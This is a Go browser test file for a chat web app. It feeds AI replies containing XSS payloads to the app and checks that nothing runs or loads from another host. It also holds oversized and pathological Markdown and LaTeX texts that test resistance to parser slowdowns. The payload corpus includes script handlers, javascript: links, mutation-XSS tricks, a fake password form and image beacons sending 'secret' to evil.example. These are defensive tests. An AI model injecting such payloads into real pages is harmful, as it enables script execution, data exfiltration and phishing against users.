package browser

import (
	"strings"
	"testing"

	"parley"
	"parley/internal/ai/aitest"
	"parley/internal/testtier"
)

// hostile must be shown as text everywhere.
const hostile = `<img src=x onerror="window.hit=1"><svg onload="window.hit=1"><script>window.hit=1</script>"'>`

// corpus is replies that try to run a script or to fetch something from another host.
var corpus = []string{
	hostile,
	"[click](javascript:window.hit=1) <javascript:window.hit=1> [data](data:text/html,<script>window.hit=1</script>)",
	"![x](https://evil.example/leak.png?q=secret) ![x](//evil.example/a) <img src=https://evil.example/b>",
	"<iframe src=https://evil.example/></iframe><object data=https://evil.example/></object>" +
		"<embed src=https://evil.example/>",
	"<link rel=stylesheet href=https://evil.example/a.css><style>@import url(https://evil.example/b.css);</style>" +
		"<base href=https://evil.example/>",
	"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=window.hit=1&gt;\">",
	"<svg><foreignObject><body onload=window.hit=1></foreignObject></svg>" +
		"<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
	"<a href=\"jav&#x09;ascript:window.hit=1\">x</a> <a xlink:href=javascript:window.hit=1>y</a>",
	"<form action=https://evil.example/><button>Log in</button><input name=password></form>",
	"<video src=https://evil.example/v poster=https://evil.example/p></video><audio src=https://evil.example/a>",
	"$\\href{javascript:window.hit=1}{x}$ $\\includegraphics{https://evil.example/tex.png}$ " +
		"$\\htmlData{onclick=window.hit=1}{x}$",
	"```html\n<script>window.hit=1</script>\n```\n`<img src=x onerror=window.hit=1>`",
	"```\"><img src=x onerror=window.hit=1>\ncode\n```",
	"[ref]: javascript:window.hit=1\n[ref] ![pic][p]\n\n[p]: https://evil.example/ref.png",
	"<div style=\"background:url(https://evil.example/css.png)\">x</div>",
	"<template><script>window.hit=1</script></template>" +
		"<noscript><p title=\"</noscript><img src=x onerror=window.hit=1>\">",
}

func TestNothingHostileRunsOrReachesAnotherHost(t *testing.T) {
	t.Parallel()
	w := newWorld(t)
	w.model.Respond(func(r aitest.Request) []aitest.Step {
		for _, text := range corpus {
			if strings.HasSuffix(r.Question(), text) {
				return aitest.Say(text)
			}
		}
		return aitest.Say("?")
	})
	user := parley.RegisterInput{Email: email, Password: password, Nickname: hostile[:60]}
	out, err := w.api.Register(t.Context(), user)
	if err != nil {
		t.Fatal(err)
	}
	session := w.talk(t, hostile, corpus...)
	if _, err := w.api.Upload(t.Context(), session, hostile+".txt", strings.NewReader(hostile)); err != nil {
		t.Fatal(err)
	}
	search := parley.SendInput{
		SessionID: session, Content: "search", ReplyOptions: parley.ReplyOptions{WebSearch: true},
	}
	if _, err := w.api.Send(t.Context(), search); err != nil {
		t.Fatal(err)
	}
	messages, err := w.api.Messages(t.Context(), session, parley.Page{Number: 1, Size: 200})
	if err != nil {
		t.Fatal(err)
	}
	for _, m := range messages.Messages {
		w.favorite(t, session, m.ID)
	}

	b := signedIn(t, w, out.Token, "#/chat/"+session, 1280)
	b.until(`document.querySelectorAll("article[data-state=stored]").length === 34`)
	b.eval(`document.querySelector("button.files").click()`)
	b.until(`document.querySelector("aside li")`)
	b.until(`document.querySelector(".assistant .katex")`)
	b.eval(`document.querySelectorAll("article a[href]").forEach(a => {
		if (!/^(https?|mailto):/.test(a.href)) throw new Error(a.outerHTML)
	})`)
	b.eval(`const forbidden = "img, script, iframe, object, embed, form, input, video, audio, style, link"
		const found = document.querySelector("article :is(" + forbidden + ")")
		if (found) throw new Error(found.outerHTML)`)
	b.eval(`location.hash = "#/favorites"`)
	b.until(`document.querySelectorAll("section li").length >= 20`)
	b.eval(`location.hash = "#/settings"`)
	b.shows("Delete account")
	if value[bool](b, `"hit" in window`) {
		t.Error("something ran")
	}
	b.checkQuiet(w.url)
}

func TestHugeAndDeepTextsLeaveThePageUsable(t *testing.T) {
	t.Parallel()
	w := newWorld(t, "PARLEY_AI_MAX_REPLY=4MiB", "PARLEY_AI_CONTEXT_TOKENS=2000000")
	token := w.register(t)
	texts := []string{
		strings.Repeat("A paragraph with **bold** and `code` and [a link](https://example.com).\n\n", 14000),
		strings.Repeat(">", 100_000) + " deep",
		strings.Repeat("- ", 50_000) + "deep",
		strings.Repeat("[", 100_000),
		strings.Repeat("*a **b ", 20_000),
		strings.Repeat("<b>", 50_000),
	}
	questions := make([]string, len(texts))
	for i, text := range texts {
		questions[i] = "q"
		w.model.Script(aitest.Say(text)...)
	}
	session := w.talk(t, "", questions...)
	b := signedIn(t, w, token, "#/chat/"+session, 1280)
	b.until(`document.querySelectorAll("article[data-state=stored]").length === 12`)
	w.model.Respond(func(aitest.Request) []aitest.Step { return aitest.Say("still here") })
	b.ask("hello")
	b.shows("still here")
	b.checkQuiet(w.url)
}

// slow is texts that take a naive Markdown parser, highlighter or typesetter minutes if
// they are long.
var slow = []string{
	"$$a", "\\[a", "**a_", "*a **b ", "[a]: <", "[", "![", "[a](", "<a ", "!", "&", "~~a", "|a", "|\n|-\n", "--\n",
	"> ", "> a\n- b\n", "- ", "- [ ] a\n", "[^a]: b\n", "*a*\n\n", "a\n\n",
}

// slowTexts returns the texts at the greatest length at which replies are formatted.
func slowTexts() []string {
	const length = 120_000
	var texts []string
	for _, part := range slow {
		texts = append(texts, strings.Repeat(part, length/len(part)))
	}
	var backticks strings.Builder
	for i := 1; backticks.Len() < length; i++ {
		backticks.WriteString(strings.Repeat("`", i) + "a")
	}
	columns := length / 8
	return append(texts, backticks.String(),
		strings.Repeat("|a", columns)+"|\n"+strings.Repeat("|-", columns)+"|\n"+strings.Repeat("|\n", columns),
		"```markdown\n"+strings.Repeat("[a](", 10_000)+"\n```",
		"```java\n"+strings.Repeat("$", 50_000)+"\n```",
		"$"+strings.Repeat("{", 2900)+"$ and $$"+strings.Repeat(`\frac{`, 490)+"$$",
		strings.Repeat(`$\frac12$ `, 12_000))
}

func TestSlowTextsLeaveThePageUsable(t *testing.T) {
	testtier.Rare(t)
	t.Parallel()
	w := newWorld(t, "PARLEY_AI_MAX_REPLY=4MiB", "PARLEY_AI_CONTEXT_TOKENS=2000000")
	token := w.register(t)
	texts := slowTexts()
	questions := make([]string, len(texts))
	for i, text := range texts {
		questions[i] = "q"
		w.model.Script(aitest.Say(text)...)
	}
	session := w.talk(t, "Slow", questions...)
	w.model.Script(aitest.Say("This is *quick*.")...)
	other := w.talk(t, "Quick", "q")

	b := signedIn(t, w, token, "#/", 1280)
	b.until(`document.querySelectorAll("nav li").length === 2`)
	b.eval(watchFrames)
	b.eval(`location.hash = "#/chat/` + session + `"`)
	b.until(`document.querySelector("article[data-state=stored] .markdown")`)
	b.write("#composer", "typed meanwhile")
	b.until(`document.querySelector("#composer").value.includes("typed meanwhile")`)
	b.eval(`document.querySelector("[role=log]").scrollTop = 0`)
	b.eval(`location.hash = "#/chat/` + other + `"`)
	b.until(`document.querySelector("article em")?.textContent === "quick"`)

	b.eval(`location.hash = "#/chat/` + session + `"`)
	b.until(`document.querySelectorAll("article .unformatted").length >= 15`)
	b.shows("too long or too complex")

	var steps []aitest.Step
	for range 300 {
		steps = append(steps, aitest.Text(strings.Repeat("**a_", 100)))
	}
	w.model.Script(append(steps, aitest.Text("\n\nstill here"), aitest.End())...)
	b.eval(`document.querySelector("#composer").select()`)
	b.ask("hello")
	b.shows("still here")
	t.Logf("longest frame: %.0f ms", value[float64](b, `window.longestFrame`))
	b.checkQuiet(w.url)
}
